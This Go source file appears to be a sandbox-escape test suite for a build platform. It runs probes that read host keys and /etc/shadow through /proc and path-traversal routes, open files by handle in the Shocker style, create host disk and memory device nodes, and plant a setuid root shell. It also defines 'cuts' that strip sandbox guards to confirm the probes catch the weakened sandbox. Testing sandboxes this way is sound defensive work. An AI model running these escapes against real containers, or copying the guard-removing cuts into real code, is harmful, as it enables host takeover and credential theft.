package attack

import (
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"golang.org/x/sys/unix"
)

const sandboxFile = "platform/builder/sandbox/sandbox.go"

// Cuts that remove the guards of a room. cutUsers gives the room's root the powers of
// the host's root over files and processes. cutUserNamespace also gives it those over
// the kernel.
var (
	cutUsers         = []cut{{"platform/builder/sandbox/slot.go", `HostID: int(s.uid), Size`, `HostID: 0, Size`}, cutOpener}
	cutUserNamespace = []cut{
		{sandboxFile, `Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS`, `Cloneflags: syscall.CLONE_NEWNS`},
		{sandboxFile, `		UidMappings:                ids,
		GidMappings:                ids,
		GidMappingsEnableSetgroups: true,
`, `		AmbientCaps: make([]uintptr, 0, len(ids)),
`},
	}
	// The system call filters of a room, and of the role that opens it: a room inherits
	// that role's filter and capabilities.
	cutFilter = []cut{{"platform/builder/sandbox/init.go", `	return confine.Room().Install()`, `	_ = confine.Room
	return nil`}, cutOpener}
	cutOpener = cut{"internal/confine/confine.go", `	if err := dropCapabilities(p.Capabilities); err != nil {`, `	if p.Rooms {
		return nil
	}
	if err := dropCapabilities(p.Capabilities); err != nil {`}
	cutKernel = slices.Concat(cutUserNamespace, cutFilter)
	cutRoot   = cut{"platform/builder/sandbox/mounts.go", `	if err := add(cgroupRoot, cgroupRoot, true,`,
		`	if err := add("/", "/host", true, 0); err != nil {
		return files, err
	}
	if err := add(cgroupRoot, cgroupRoot, true,`}
)

// everywhere returns the paths by which a room might reach a path of the host.
func everywhere(path string) []string {
	out := []string{path, "/host" + path, "/proc/1/root" + path, "/proc/1/cwd" + path, "/../../../../../.." + path, "/proc/self/root/../.." + path}
	for fd := range 12 {
		out = append(out, "/proc/self/fd/"+string(rune('0'+fd))+"/../../../../../.."+path)
	}
	procs, _ := filepath.Glob("/proc/[0-9]*/root")
	for _, p := range procs[:min(len(procs), 20)] {
		out = append(out, p+path)
	}
	return out
}

func (i *intruder) read(paths ...string) {
	for _, path := range paths {
		for _, p := range everywhere(path) {
			data, err := os.ReadFile(p)
			if err == nil && path != "/etc/shadow" { // the image of a step has that file, too
				i.got("%s: %s", p, data)
			} else if err == nil && strings.HasPrefix(p, "/host") {
				i.got("%s: %s", p, data)
			} else if err != nil {
				i.not("%s: %v", p, err)
			}
		}
	}
}

var _ = register(attack{
	name: "read-keys", tries: "read the platform's keys and tokens, and the host's passwords",
	guard: "a room sees only the files given to it, and has its own user: platform/builder/sandbox openMounts, UidMappings",
	cuts:  append(slices.Clone(cutUsers), cutRoot),
	from:  []string{"step", "room"},
	probe: func(i *intruder) { i.read(append(i.Keys, i.Canary)...) },
})

var _ = register(attack{
	name: "overwrite-tools", tries: "change the platform's program, buildkitd, runc or a file of the host",
	guard: "a room sees the host's files read-only, and they belong to another user: platform/builder/sandbox openMounts",
	cuts:  append(slices.Clone(cutUsers), cutRoot, cut{"platform/builder/sandbox/mounts.go", `false, unix.MOUNT_ATTR_RDONLY|unix.MOUNT_ATTR_NOSUID|unix.MOUNT_ATTR_NODEV)`, `false, unix.MOUNT_ATTR_NOSUID|unix.MOUNT_ATTR_NODEV)`}),
	from:  []string{"step", "room"},
	probe: func(i *intruder) {
		var paths []string
		for _, p := range i.Write {
			paths = append(paths, everywhere(p)...)
		}
		if i.where == "room" { // in a step, /bin comes from the image
			paths = append(paths, "/bin/buildkitd", "/bin/runc")
		}
		for _, p := range paths {
			// First remove what prevents mounts.
			unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, "")
			f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
			if err == nil {
				f.Close()
			}
			if p == "/bin/buildkitd" && err != nil && strings.Contains(err.Error(), "text file busy") {
				i.not("%s: %v", p, unix.EROFS) // it is running; for /bin/runc, the read-only mount decides
				continue
			}
			i.try("opened "+p+" for writing", err)
		}
	},
})

var _ = register(attack{
	name: "inherited-files", tries: "reach the host through an inherited file descriptor",
	guard: "no child of the platform inherits the files open at its start: cmd/colophond main; the first process of a room closes everything but its socket at exec: platform/builder/sandbox furnish",
	cuts: []cut{{"cmd/colophond/main.go", `CloseRange(3, math.MaxUint32,`, `CloseRange(math.MaxUint32, math.MaxUint32,`},
		{"platform/builder/sandbox/init.go", `CloseRange(3, math.MaxUint32,`, `CloseRange(math.MaxUint32, math.MaxUint32,`}},
	from: []string{"step", "room"},
	probe: func(i *intruder) {
		for fd := 3; fd < 256; fd++ {
			var st unix.Stat_t
			if unix.Fstat(fd, &st) != nil {
				continue
			}
			if st.Mode&unix.S_IFMT == unix.S_IFDIR {
				h, err := unix.Openat(fd, "../../../../../../../.."+i.Canary, unix.O_RDONLY, 0)
				if err == nil {
					i.got("descriptor %d leads to the host", fd)
					unix.Close(h)
				}
			}
			to, _ := os.Readlink("/proc/self/fd/" + itoa(fd))
			i.not("descriptor %d is %s: leads nowhere", fd, to)
		}
		i.not("no descriptor leads outside")
	},
})

var _ = register(attack{
	name: "file-handles", tries: "open a file of the host by its handle, without a path (as Shocker did)",
	guard: "each room has a user namespace: platform/builder/sandbox Cloneflags",
	cuts:  cutKernel,
	from:  []string{"step", "room"},
	probe: func(i *intruder) {
		for _, dir := range []string{"/", "/state", "/tmp", "/etc", "/etc/resolv.conf", "/etc/hosts", "/bin/runc", "/dev/null"} {
			fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_NONBLOCK, 0)
			if err != nil {
				i.not("%s: %v", dir, err)
				continue
			}
			// On ext4, the root directory is inode 2 with generation 0.
			h := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
			root, err := unix.OpenByHandleAt(fd, h, unix.O_RDONLY)
			i.try("the root directory of the file system that "+dir+" is on was opened by its handle", err)
			if err == nil {
				unix.Close(root)
			}
			unix.Close(fd)
		}
	},
})

var _ = register(attack{
	name: "devices", tries: "create a device node for the host's disk or memory, and read it",
	guard: "each room has a user namespace, and its writable file systems allow no devices: platform/builder/sandbox",
	cuts:  append(slices.Clone(cutKernel), cutRoot),
	from:  []string{"step", "room"},
	probe: func(i *intruder) {
		for _, dir := range []string{"/state", "/state/tmp", "/tmp", "/dev", "/dev/shm", "/var/tmp", "/run"} {
			for what, dev := range map[string]int{"block": int(i.Device), "mem": int(unix.Mkdev(1, 1)), "kmsg": int(unix.Mkdev(1, 11))} {
				mode := uint32(unix.S_IFCHR | 0o600)
				if what == "block" {
					mode = unix.S_IFBLK | 0o600
				}
				path := filepath.Join(dir, "node-"+what)
				if err := unix.Mknod(path, mode, dev); err != nil {
					i.not("%s: %v", path, err)
					continue
				}
				f, err := os.Open(path)
				if err == nil {
					_, err = f.Read(make([]byte, 512))
					f.Close()
				}
				i.try("read the device "+what+" of the host", err)
			}
		}
		// Device nodes that exist already.
		filepath.WalkDir("/dev", func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type()&fs.ModeDevice != 0 && d.Type()&fs.ModeCharDevice == 0 {
				i.got("a block device: %s", path)
			}
			return nil
		})
	},
})

var _ = register(attack{
	name: "setuid-files", tries: "leave a setuid file that runs as root",
	guard: "the room's root is an unprivileged user of the host: platform/builder/sandbox UidMappings",
	cuts:  cutUsers,
	from:  []string{"room"},
	probe: func(i *intruder) {
		for _, dir := range []string{"/state", "/state/tmp", "/tmp", "/run"} {
			path := filepath.Join(dir, "root-shell")
			i.not("%s: %v", path, os.WriteFile(path, []byte("#!/bin/sh\n"), 0o755))
			os.Chown(path, 0, 0)
			os.Chmod(path, 0o755|fs.ModeSetuid)
		}
		i.outside("setuid-files")
	},
})

// setuidFiles looks for a file in the rooms that would run as the host's root.
func setuidFiles() string {
	for _, dir := range []string{"/state", "/state/tmp", "/tmp", "/run"} {
		paths, _ := filepath.Glob("/proc/[0-9]*/root" + dir + "/root-shell")
		for _, path := range paths {
			var st unix.Stat_t
			if unix.Lstat(path, &st) == nil && st.Mode&unix.S_ISUID != 0 && st.Uid == 0 {
				return path + " runs as the host's root"
			}
		}
	}
	return ""
}
